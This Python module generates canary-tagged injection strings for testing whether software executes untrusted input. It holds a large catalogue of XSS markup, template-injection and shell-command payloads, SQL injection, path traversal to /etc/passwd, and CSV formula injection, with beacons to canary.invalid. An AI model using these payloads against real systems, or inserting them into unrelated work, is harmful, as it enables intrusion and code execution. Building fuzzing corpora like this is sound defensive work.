"""Hostile texts made from pieces: each would show itself if any program took it for its own.

``texts(count)`` gives texts that are all different. Each bears a number, its canary: if it ran, it
would append that number to ``window.__ran``, ask for ``http://canary.invalid/NUMBER``, write it to
the console, raise a dialog with it or go to that address.
"""

from __future__ import annotations

import itertools
import random
import re
from collections.abc import Callable, Iterator
from html import escape
from urllib.parse import quote

HOST = "canary.invalid"
#: What a text would do: JS stands for one of these, URL for the canary's address.
ACTS = (
    "(window.__ran=window.__ran||[]).push(§)",
    "fetch('//canary.invalid/§')",
    "new Image().src=`http://canary.invalid/§`",
    "console.log(§)",
    "alert(§)",
    "top.location='http://canary.invalid/§'",
)
#: What markup, a string, a comment or a block is ended with, before something of one's own.
BREAKERS = (
    "", '">', "'>", "`>", '" ', "' ", "x ", "-->", "--!>", "]]>", "?>", "*/", "\\\"", "\\'", "\\",
    "</script>", "</SCRIPT\t>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>",
    "</svg>", "</math>", "</option></select>", "</td></tr></table>", "</iframe>", "</xmp>",
    "<!--", "<![CDATA[", "\u2028", "\u2029", "<noscript><p title=\"</noscript>", "'\"`>",
)  # fmt: skip
#: Markup that acts by itself, when something is moved over or pressed, or that asks for an address.
MARKUP = (
    "<script>JS</script>", "<script src=URL></script>", "<script type=module>JS</script>",
    "<script>JS//", "<ScRiPt >JS</sCrIpT>", "<img src=x onerror=\"JS\">", "<img src=URL>",
    "<img srcset=URL>", "<img/src/onerror=JS>", "<svg onload=JS>", "<svg/onload=\"JS\"/>",
    "<svg><script>JS</script></svg>", "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:JS />", "<svg><image href=URL />",
    "<svg><a xlink:href=\"javascript:JS\"><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS></style></mglyph></table></mtext>",
    "<math href=\"javascript:JS\">x</math>", "<body onload=JS>", "<iframe src=URL></iframe>",
    "<iframe srcdoc=\"<script>parent.JS</script>\">", "<iframe src=\"javascript:JS\">",
    "<object data=URL></object>", "<embed src=URL>", "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>", "<meta http-equiv=refresh content=\"0;url=URL\">",
    "<base href=URL>", "<form action=URL><button autofocus onfocus=JS>x</button></form>",
    "<input autofocus onfocus=JS>", "<details open ontoggle=JS>", "<video src=URL onerror=JS>",
    "<audio src onerror=JS>", "<marquee onstart=JS>", "<a href=\"javascript:JS\">x</a>",
    "<a href=URL ping=URL>x</a>", "<b onmouseover=\"JS\" onpointerenter=\"JS\" onclick='JS'>x</b>",
    "<b style=\"background:url(URL)\">x</b>", "<style>@import 'URL';</style>",
    "<style>*{background:url(URL)}</style>", "<style>@font-face{font-family:x;src:url(URL)}",
    "<table background=URL>", "<template><img src=x onerror=JS></template>",
    "<p onanimationstart=JS style=animation-name:x>", "<portal src=URL>", "<select onfocus=JS>",
    "<noscript><style></noscript><img src=x onerror=JS>", "<textarea></textarea><svg onload=JS>",
    "<title><a title=\"</title><img src=x onerror=JS>\">", "<svg></p><style><g title=\"</style>"
    "<img src=x onerror=JS>\">", "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    "<path id=\"</style><img src=x onerror=JS>\">", "<p is=x-y contenteditable onblur=JS>",
    "<img name=body><img id=__ran>", "<form id=pingshanGeo><input name=page>",
)  # fmt: skip
#: Texts of other languages than markup: what templates, scripts, sheets, tables and paths take.
OTHER = (
    "{{JS}}", "{{7*§}}", "{% print(§) %}", "{# § #}", "{%- endblock -%}{% endraw %}{{§}}",
    "{{cycler.__init__.__globals__.os.popen('touch canary-§')}}", "{{''.__class__.__mro__}}§",
    "{% include 'URL' %}", "{% raw %}{{§}}", "${JS}", "#{JS}", "*{JS}", "<%= JS %>", "<?php JS ?>",
    "@{JS}", "`${JS}`", "`-JS-`", "'-JS-'", '"-JS-"', '"+JS+"', "';JS;//", '";JS;//', "\\';JS;//",
    "\u2028JS\u2029", "*/JS/*", "/*§", "//§", "'§", '"§', "`§", "§\\", "<!--§", "<![CDATA[§]]>",
    "--><script>JS</script>", "javascript:JS", "JaVaScRiPt:JS", "java\tscript:JS", "vbscript:JS",
    "data:text/html,<script>JS</script>", "data:text/html;base64,PHNjcmlwdD4=§", "URL",
    "//canary.invalid/§", "file:///etc/passwd?§", "\\\\canary.invalid\\§", "../../../etc/§",
    "..%2f..%2f§", "/dev/null/§", "C:\\§", "/vsicurl/URL", "blob:§", "view-source:URL",
    "#lot=§&drawer=flags", "&q=§#x", "%00§", "%E0%A4%A §", "?§=1&lang=zh",
    "red;background:url(URL)",
    "}*{background:url(URL)}", "expression(JS)", "</style><style>@import 'URL'", "\\3c img\\3e §",
    "=cmd|'/C calc'!§", "=HYPERLINK(\"URL\")", "+§+1", "-§-1", "@SUM(§)", "\t=§", "\r=§",
    "=IMPORTXML(\"URL\")", "＝§", "'=§", "%0a§=1", "{\"__proto__\":{\"x\":§}}",
    "constructor.prototype.x=§", "NaN", "null", "undefined", "true", "-0", "1e999",
    "[object Object]",
    "\u202eJS\u202c", "\u2066<b>\u2069§", "\u200f\u200e§", "\u0301§", "§\u0301\u0301\u0301",
    "\u200b§", "\ufeff§", "§\u200d\u200c", "\ufffe§", "\U000e0001§", "坪山\u3000§", "ﷺ§", "İıſ§",
    "\u00ad§", "%s%n%d §", "$(touch canary-§)", "`touch canary-§`", "; rm §", "' OR 1=§ --",
    "\u0001far\u0001§", "\u0002§", "\u0001constructor\u0001", "\x1b]0;§\x07", "\x7f§", "\x08§",
    "\x00§", "§\x00<script>JS</script>",
    "P1 S1 §", "{count} {names} {0.__class__} §", "\\u003cscript\\u003eJS", "&lt;script&gt;JS",
)  # fmt: skip
#: Names that every object of JavaScript has: they bear no canary and are put in beside the texts.
PROTOTYPES = (
    "__proto__", "constructor", "toString", "valueOf", "hasOwnProperty", "__defineGetter__",
    "isPrototypeOf", "length", "then",
)  # fmt: skip
#: Other ways to write the same signs.
WRITTEN: tuple[Callable[[str], str], ...] = (
    escape,
    lambda text: "".join(f"&#x{ord(c):x};" if c in "<>\"'&/:" else c for c in text),
    lambda text: "".join(f"&#{ord(c):07d}" if c in "<>\"'" else c for c in text),
    quote,
    lambda text: "".join(f"\\u{ord(c):04x}" if c in "<>\"'/" else c for c in text),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e").replace("'", "\uff07"),
    lambda text: text.replace("<", "<\x0c").replace(" ", "\x0c"),
    lambda text: re.sub("<[a-z]+", lambda tag: tag[0].upper(), text),
)
LONG = 20_000
#: One text of so many is very long.
RARE = 400


def forms() -> list[tuple[str, str, Callable[[str], str]]]:
    """Every way to put pieces together: what comes before, what acts, how it is written."""
    acting = [piece for piece in (*MARKUP, *OTHER) if "JS" in piece or "URL" in piece]
    rest = [piece for piece in OTHER if piece not in acting]
    return [
        *((before, piece, str) for before, piece in itertools.product(BREAKERS, acting)),
        *(("", piece, how) for piece, how in itertools.product(acting, WRITTEN)),
        *(("", piece, str) for piece in rest * 8),
    ]


def text(number: int, before: str, piece: str, how: Callable[[str], str]) -> str:
    """One text with its canary, put together and written in one way."""
    act = ACTS[number % len(ACTS)]
    if piece.count('"') and '"' not in before:
        act = act.replace('"', "&quot;")
    said = piece.replace("JS", act).replace("URL", f"http://{HOST}/§")
    filled = how(before + said.replace("§", str(number)))
    return filled if str(number) in filled else f"{filled} {number}"


def texts(count: int, seed: int = 0, *, controls: bool = True) -> Iterator[str]:
    """Yield so many texts, all different, the same for the same seed.

    ``controls`` lets in what a table cannot keep at its edges or at all: NUL, control characters,
    white space at the ends.
    """
    order = random.Random(seed)  # noqa: S311 -- the same texts each time
    number, ways = 10_000 * (seed + 1), []
    for _ in range(count):
        made = ""
        while not made or not (controls or is_plain(made)):
            if not ways:
                ways = forms()
                order.shuffle(ways)
            number += 1
            made = text(number, *ways.pop())
        yield made * (LONG // len(made)) if number % RARE == 0 else made


def is_plain(said: str) -> bool:
    """Whether a cell of CSV gives a text back letter for letter."""
    has_control = any(ord(sign) < 32 or sign in "\x7f\x85" for sign in said)
    return not has_control and said.strip() == said and said[:1] != "'"
